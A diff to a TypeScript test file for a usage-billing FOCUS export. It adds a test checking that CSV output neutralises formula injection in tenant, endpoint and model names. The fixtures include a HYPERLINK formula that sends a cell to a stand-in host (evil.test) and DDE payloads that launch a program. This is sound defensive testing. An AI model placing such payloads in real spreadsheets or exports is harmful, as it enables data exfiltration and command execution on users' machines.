@@ -18,6 +18,9 @@ let b: { id: string; slug: string };
 let chat: { id: string; slug: string };
 let vision: { id: string; slug: string };
 let region: string;
+let evil: { id: string };
+let evilEndpoint: { id: string; slug: string };
+const EVIL = { tenant: '=HYPERLINK("http://evil.test/?"&A1,"Invoice")', endpoint: "+cmd|' /C calc'!A0", model: "@SUM(1+1)*cmd|' /C calc'!A0" };
 const people = {} as Record<"admin" | "operator" | "auditor" | "tenantA", Actor>;
 
 /** A GET of /api/usage/focus through the route handlers' guard, as Next calls it. */
@@ -53,6 +56,11 @@ beforeAll(async () => {
   a = await db.tenant.create({ data: { name: `Focus "A" Şirketi, ${s}`, slug: `focus-${s}-a`, pricePlanId: plan.id } });
   b = await db.tenant.create({ data: { name: `Focus B ${s}`, slug: `focus-${s}-b`, pricePlanId: plan.id } });
   [chat, vision] = [await endpoint("llm"), await endpoint("vision")];
+  // Names an operator or a tenant chose, written as a spreadsheet would run them.
+  evil = await db.tenant.create({ data: { name: EVIL.tenant, slug: `focus-${s}-c`, pricePlanId: plan.id } });
+  evilEndpoint = await endpoint("llm");
+  await db.endpoint.update({ where: { id: evilEndpoint.id }, data: { name: EVIL.endpoint } });
+  await db.model.update({ where: { id: (await db.endpoint.findUniqueOrThrow({ where: { id: evilEndpoint.id } })).modelId }, data: { name: EVIL.model } });
   await calls([
     { tenantId: a.id, endpointId: chat.id, at: "2026-11-03T09:00:00Z", prompt: 1000, completion: 500 },
     { tenantId: a.id, endpointId: chat.id, at: "2026-11-03T17:30:00Z", prompt: 2000, completion: 100 },
@@ -62,6 +70,7 @@ beforeAll(async () => {
     { tenantId: a.id, endpointId: vision.id, at: "2026-11-04T08:01:00Z" },
     { tenantId: a.id, endpointId: chat.id, at: "2026-12-01T00:00:00Z", prompt: 100, completion: 100 },
     { tenantId: b.id, endpointId: chat.id, at: "2026-11-03T10:00:00Z", prompt: 5000, completion: 5000 },
+    { tenantId: evil.id, endpointId: evilEndpoint.id, at: "2026-11-07T10:00:00Z", prompt: 100, completion: 50 },
   ]);
   await rollupDirtyHours(db);
   await refreshDirtyDays(db);
@@ -75,7 +84,7 @@ describe("the FOCUS 1.2 export", () => {
   it("gives a tenant its own month, one row per endpoint and day, each conforming to the spec and adding up to what it was charged", async () => {
     const res = await focus(people.tenantA, { from: "2026-11", format: "csv" });
     expect(res.status).toBe(200);
-    expect(res.headers.get("content-disposition")).toBe(`attachment; filename="kule-focus-${a.slug}-2026-11.csv"`);
+    expect(res.headers.get("content-disposition")).toBe(`attachment; filename="kule-focus-${a.slug}-2026-11.csv"; filename*=UTF-8''kule-focus-${a.slug}-2026-11.csv`);
     const text = await res.text();
     const { header, rows } = readFocusFile(text, "csv");
     expect(focusViolations(header, rows)).toEqual([]);
@@ -121,6 +130,19 @@ describe("the FOCUS 1.2 export", () => {
       expect(mine[0]!.BillingAccountName).toBe(a.name);
     }
     await expect.poll(() => testDb().auditEvent.count({ where: { action: "usage.focus.export.streamed", actorId: people.admin.userId } })).toBe(1);
+  });
+
+  it("writes tenant, endpoint and model names that start with = + @ as text a spreadsheet will not run; JSONL keeps them as they are", async () => {
+    const res = await focus(people.operator, { from: "2026-11", tenantId: evil.id, format: "csv" });
+    const { header, rows } = readFocusFile(await res.text(), "csv");
+    expect(focusViolations(header, rows)).toEqual([]);
+    expect(rows).toHaveLength(1);
+    expect(rows[0]).toMatchObject({ BillingAccountName: `'${EVIL.tenant}`, ResourceName: `'${EVIL.endpoint}`, ServiceName: `'${EVIL.endpoint}`, BilledCost: expect.stringMatching(/^0\.\d+$/), x_InputTokens: "100" });
+    // No cell of the row starts as a formula would.
+    expect(Object.values(rows[0]!).filter((v) => /^[=+\-@\t\r]/.test(String(v)))).toEqual([]);
+    expect(JSON.parse(rows[0]!.Tags as string)).toMatchObject({ "kule.model": EVIL.model });
+    const jl = readFocusFile(await (await focus(people.operator, { from: "2026-11", tenantId: evil.id, format: "jsonl" })).text(), "jsonl");
+    expect(jl.rows[0]).toMatchObject({ BillingAccountName: EVIL.tenant, ResourceName: EVIL.endpoint });
   });
 
   it("refuses an auditor (no usage permission) and a bad period, naming the field", async () => {
